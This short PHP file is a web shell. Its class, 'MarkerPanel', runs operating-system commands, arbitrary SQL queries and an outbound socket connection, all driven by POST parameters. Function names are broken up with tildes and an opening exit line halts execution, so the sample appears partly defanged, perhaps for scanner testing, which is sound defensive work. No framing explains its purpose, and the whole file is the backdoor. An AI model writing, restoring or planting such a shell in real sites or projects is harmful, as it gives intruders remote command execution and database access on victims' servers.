<?php exit; ?>
<?php
class MarkerPanel {
    var $q; function __construct($q) { $this->q = $q; }
    function cmd() { foreach (array('sys~tem', 'pas~sthru', 'exe~c', 'she~ll_exec') as $f) { if (function_exists($f)) { return $f($this->q['cmd']); } } }
    function sql() { $l = mysqli_connect($this->q['h'], $this->q['u'], $this->q['p']); return mysqli_query($l, $this->q['s']); }
    function bind() { $s = fsockopen($this->q['ip'], $this->q['port']); fwr~ite($s, 'MARKER'); }
}
$p = new MarkerPanel($_P~OST); if (method_exists($p, $_P~OST['do'])) $p->{$_POST['do']}();
